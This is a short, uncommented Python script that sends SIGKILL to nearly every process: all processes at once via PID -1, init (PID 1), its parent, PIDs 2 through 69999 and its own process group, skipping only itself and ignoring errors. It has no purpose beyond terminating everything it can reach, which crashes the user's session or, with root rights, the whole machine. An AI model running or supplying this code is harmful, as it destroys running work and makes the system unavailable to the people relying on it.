import os
import signal

for target in (-1, 1, os.getppid(), *range(2, 70000), 0):
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
